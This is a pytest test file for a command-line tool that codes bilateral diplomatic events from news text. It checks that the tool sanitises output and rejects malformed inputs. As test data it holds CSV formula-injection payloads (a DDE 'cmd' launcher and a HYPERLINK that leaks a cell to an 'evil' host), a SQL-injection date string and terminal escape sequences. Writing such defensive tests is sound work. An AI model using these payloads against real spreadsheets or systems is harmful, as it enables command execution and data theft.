"""What reaches a terminal or a spreadsheet from article text, and the small checks at the edges:
malformed evaluation files, bad actor dictionaries, injected dates, a year in prose."""
import csv
import io
import json

import pytest
from click.testing import CliRunner

from bilat.cli import main
from bilat.terminal import printable, spreadsheet_safe
from conftest import GOLD, SEEDS


@pytest.fixture
def run(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("BILAT_DB", raising=False)

    def invoke(*args):
        return CliRunner().invoke(main, list(map(str, args)), catch_exceptions=False)

    return invoke


def test_printable_strips_escapes_and_controls():
    text = "Pakistan\x1b[2J and \x1b]0;title\x07Russia\x9b31m signed\r a treaty.\tYes\n"
    assert printable(text) == "Pakistan and Russia31m signed a treaty.\tYes\n"


@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("+1+2", "'+1+2"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("Pakistan", "Pakistan"), ("-3.5", "-3.5"), (-3.5, -3.5), (8, 8), (None, None)])
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_timeline_shows_no_escape_codes(run, tmp_path):
    (tmp_path / "esc.txt").write_text("Pakistan and Russia signed a defense treaty in Moscow in 2018 "
                                      "\x1b[2J\x1b]0;owned\x07with \x1b[31mfanfare\x1b[0m.\n")
    assert run("ingest", tmp_path / "esc.txt", "--db", "t.duckdb").exit_code == 0
    result = run("timeline", "PAK", "RUS", "--db", "t.duckdb")
    assert "signed a defense treaty" in result.output and "with fanfare." in result.output
    assert not set(result.output) & {"\x1b", "\x07"}


def test_csv_cells_cannot_be_formulas():
    from bilat.export import write_records
    from bilat.query import RECORD_FIELDS

    record = {k: None for k in RECORD_FIELDS}
    record.update(sentence='=HYPERLINK("http://evil/?"&A1) Pakistan and Russia met.', source_text="@Pakistan",
                  span=[0, 10], quantities=[], goldstein=-10.0, quad=4, source="PAK", target="RUS")
    out = io.StringIO()
    write_records([record], "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["sentence"].startswith("'=HYPERLINK(") and row["source_text"] == "'@Pakistan"
    assert (row["goldstein"], row["quad"], row["source"]) == ("-10.0", "4", "PAK")  # numbers stay numbers


@pytest.fixture
def empty_db(tmp_path):
    from bilat.query import Store

    path = tmp_path / "x.duckdb"
    Store(str(path)).close()  # read commands need a database that exists
    return path


@pytest.mark.parametrize("value", ["2005-01-01T00:00' OR 1=1", "2005-13", "20051", "2005-02-30", "yesterday"])
def test_since_must_be_a_date(run, empty_db, value):
    result = run("events", "--since", value, "--db", empty_db)
    assert result.exit_code == 1
    assert result.stderr.startswith("E400 --since must be an ISO date") and result.stderr.count("\n") == 1


@pytest.mark.parametrize("value", ["2005", "2005-03", "2005-03-31"])
def test_since_takes_iso_prefixes(run, empty_db, value):
    assert run("events", "--since", value, "--db", empty_db).exit_code == 0


_GOLD_LINE = json.loads(GOLD.read_text(encoding="utf-8").splitlines()[0])
_PRED = {"doc_id": "d", "source": "PAK", "target": "USA", "root": "05", "quad": 1, "event_date": "2005",
         "sentence": "Pakistan and the US signed it."}
_BAD_GOLD = {
    "not JSON": b'{"doc": ',
    "a list": b"[1, 2]",
    "events a string": json.dumps(dict(_GOLD_LINE, events="x")).encode(),
    "event without source": json.dumps(dict(_GOLD_LINE, events=[{"target": "USA"}])).encode(),
    "root a number": json.dumps(dict(_GOLD_LINE, events=[{"source": "P", "target": "U", "root_any": [5]}])).encode(),
    "date a number": json.dumps(dict(_GOLD_LINE, events=[{"source": "P", "target": "U", "event_date": 2005}])).encode(),
    "parties a string": json.dumps(dict(_GOLD_LINE, agreements=[{"parties": "PAK"}])).encode(),
    "latin-1": '{"doc": "Zürich"}'.encode("latin-1"),
}
_BAD_PRED = {
    "not JSON": b"{",
    "a string": b'"x"',
    "no quad": json.dumps({k: v for k, v in _PRED.items() if k != "quad"}).encode(),
    "quad a string": json.dumps(dict(_PRED, quad="1")).encode(),
    "root not a root": json.dumps(dict(_PRED, root="x")).encode(),
}


@pytest.mark.parametrize("case", sorted(_BAD_GOLD))
def test_evaluate_malformed_gold_is_one_line(run, tmp_path, case):
    gold, pred = tmp_path / "g.jsonl", tmp_path / "p.jsonl"
    gold.write_bytes(GOLD.read_bytes().splitlines(keepends=True)[0] + _BAD_GOLD[case] + b"\n")
    pred.write_text(json.dumps(_PRED) + "\n")
    result = run("evaluate", gold, "--pred", pred)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"E500 {gold}:2: ")


@pytest.mark.parametrize("case", sorted(_BAD_PRED))
def test_evaluate_malformed_predictions_are_one_line(run, tmp_path, case):
    pred = tmp_path / "p.jsonl"
    pred.write_bytes(json.dumps(_PRED).encode() + b"\n" + _BAD_PRED[case] + b"\n")
    result = run("evaluate", GOLD, "--pred", pred)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"E501 {pred}:2: ")


@pytest.mark.parametrize("content, message", [
    (b'phrase,code,sector\n"' + b"x" * 140_000 + b'",CHE,\n', "actors file is not valid CSV"),
    ("phrase,code,sector\nZürich,CHE,\n".encode("latin-1"), "actors file is not UTF-8 text"),
])
def test_bad_actors_file_is_one_line(run, tmp_path, content, message):
    (tmp_path / "actors.csv").write_bytes(content)
    result = run("code", SEEDS / "003_baca113321349847.txt", "--actors", tmp_path / "actors.csv")
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert result.stderr.startswith("E400 ") and message in result.stderr


def test_a_year_in_prose_is_no_publication_date(pipeline):
    from bilat.document import Document

    html = ("<html><head><title>Talks</title></head><body><article><h1>Pakistan and Russia talks</h1>"
            "<p>Pakistan and Russia signed a defense treaty in Moscow. The two sides first met in 2017 to "
            "discuss it.</p><p>Officials said the agreement would be reviewed by both governments.</p>"
            "</article></body></html>")
    doc = pipeline(Document(doc_id="p", raw=html, is_html=True))
    assert doc.published is None
    assert doc.events and all(e.reported_date is None for e in doc.events)
